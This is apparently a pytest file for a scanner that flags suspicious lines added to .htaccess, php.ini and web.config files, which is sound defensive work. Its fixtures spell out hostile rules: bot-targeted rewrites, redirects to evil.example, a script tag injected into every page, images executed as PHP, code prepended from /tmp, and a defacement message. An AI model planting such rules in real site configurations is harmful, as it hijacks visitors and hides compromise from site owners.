"""Rules of the web server in files: what their new lines do."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sentinel.core.finding import Strength
from sentinel.core.server_rules import new_lines, server_rule_signals

STRONG, WEAK = Strength.STRONG, Strength.WEAK
OWN = ("institute.example",)
BEFORE = "Options -Indexes\nErrorDocument 404 /404.html\n"
BY_AGENT = "RewriteCond %{HTTP_USER_AGENT} (google|bing) [NC]\n"

HTACCESS: dict[str, tuple[str, str, Strength]] = {
    "by robot": (
        f"RewriteEngine on\n{BY_AGENT}RewriteRule ^(.*)$ /cache/x.php?q=$1 [L]",
        "rule-for-some-visitors",
        STRONG,
    ),
    "by referrer": (
        "RewriteCond %{HTTP_REFERER} google\\. [NC]\nRewriteRule .* /go.html [R,L]",
        "rule-for-some-visitors",
        STRONG,
    ),
    "to another host": (
        "RewriteRule ^(.*)$ https://evil.example/$1 [R=301,L]", "rule-leads-away", STRONG,
    ),
    "redirect": ("Redirect 302 / http://evil.example/", "rule-leads-away", STRONG),
    "errors to another host": (
        "ErrorDocument 404 http://evil.example/x", "rule-leads-away", STRONG,
    ),
    "to a service": ("Redirect /map https://www.google.com/maps", "rule-leads-elsewhere", WEAK),
    "pictures run": ("AddHandler application/x-httpd-php .jpg", "rule-runs-files", STRONG),
    "pictures run, by block": (
        '<FilesMatch "\\.(gif|png)$">\nSetHandler application/x-httpd-php\n</FilesMatch>',
        "rule-runs-files",
        STRONG,
    ),
    "pages run": ("AddType application/x-httpd-php .html", "rule-runs-files", WEAK),
    "prepended": ("php_value auto_prepend_file /tmp/.x", "rule-prepends-code", STRONG),
    "claim as an error": ('ErrorDocument 403 "hacked by Night Crew"', "rule-shows-claim", STRONG),
    "text as an error": ('ErrorDocument 403 "Not for you"', "rule-shows-text", WEAK),
    "odd index": ("DirectoryIndex welcome.txt index.html", "rule-sets-index", STRONG),
    "order of indexes": ("DirectoryIndex index.html index.php", "rule-orders-indexes", WEAK),
    "script in each page": (
        'Substitute "s|</body>|<script src=//evil.example/a.js></script></body>|i"',
        "rule-writes-code",
        STRONG,
    ),
    "header that sends away": (
        'Header set Refresh "0; url=//evil.example"', "rule-sends-away", STRONG,
    ),
    "programs": ("Options +ExecCGI", "rule-loosens", WEAK),
    "continued line": (
        "RewriteRule ^(.*)$ \\\n https://evil.example/ [R]", "rule-leads-away", STRONG,
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HTACCESS)
def test_a_new_rule(name: str) -> None:
    added, code, strength = HTACCESS[name]
    (found,) = server_rule_signals(".htaccess", BEFORE, BEFORE + added + "\n", own=OWN)
    assert (found.code, found.strength) == (code, strength), found.text
    assert not list(server_rule_signals(".htaccess", BEFORE + added, BEFORE + added, own=OWN))


@pytest.mark.parametrize(
    "added",
    [
        "# RewriteRule ^(.*)$ https://evil.example/",
        "RewriteCond %{HTTPS} off\nRewriteRule ^ https://%{HTTP_HOST}%{REQUEST_URI} [R=301,L]",
        "RewriteCond %{HTTP_HOST} ^www\\.\nRewriteRule ^ https://institute.example/ [R=301]",
        "RewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]",
        f"{BY_AGENT}RewriteRule .* - [F,L]",
        "RewriteCond %{HTTP_REFERER} !institute\\.example\nRewriteRule \\.(jpg|png)$ - [F]",
        "ErrorDocument 500 /500.html",
        "ExpiresActive On\nExpiresByType image/png 'access plus 1 month'",
        "AddType image/webp .webp\nAddOutputFilterByType DEFLATE text/html",
        '<FilesMatch "\\.php$">\nSetHandler proxy:unix:/run/php.sock|fcgi://localhost\n</FilesMatch>',
        "Options -ExecCGI -Includes",
        "Header set X-Frame-Options DENY",
    ],
)
def test_honest_rules_say_nothing(added: str) -> None:
    assert not list(server_rule_signals(".htaccess", BEFORE, f"{BEFORE}{added}\n", own=OWN))


@pytest.mark.parametrize(
    ("path", "text", "code", "strength"),
    [
        (".user.ini", "auto_prepend_file = x.txt", "rule-prepends-code", STRONG),
        ("php.ini", "auto_append_file=/tmp/a", "rule-prepends-code", STRONG),
        (".user.ini", "disable_functions =", "rule-frees-php", WEAK),
        (
            "web.config",
            '<action type="Redirect" url="http://evil.example/{R:0}" />',
            "rule-leads-away",
            STRONG,
        ),
        (
            "web.config",
            '<rule name="a">\n<conditions>\n<add input="{HTTP_USER_AGENT}" pattern="google" />\n'
            '<action type="Rewrite" url="x.aspx" />',
            "rule-for-some-visitors",
            STRONG,
        ),
        (
            "web.config",
            '<add name="a" path="*.jpg" verb="*" modules="FastCgiModule" scriptProcessor="php" />',
            "rule-runs-files",
            STRONG,
        ),
        ("web.config", '<add value="welcome.htm" />', "rule-orders-indexes", WEAK),
    ],
)
def test_other_rule_files(path: str, text: str, code: str, strength: Strength) -> None:
    found = {one.code: one.strength for one in server_rule_signals(path, "", text, own=OWN)}
    assert found == {code: strength}


def test_new_lines_are_named_without_comments() -> None:
    after = "# remark\nOptions -Indexes\nFirst  line\n\nSecond line\n"
    assert new_lines("Options -Indexes", after) == ("First line", "Second line")


@given(st.text(max_size=400), st.text(max_size=400), st.sampled_from([".htaccess", "web.config"]))
def test_any_text_is_read(before: str, after: str, name: str) -> None:
    list(server_rule_signals(name, before, after))
    assert not list(server_rule_signals(name, after, after))
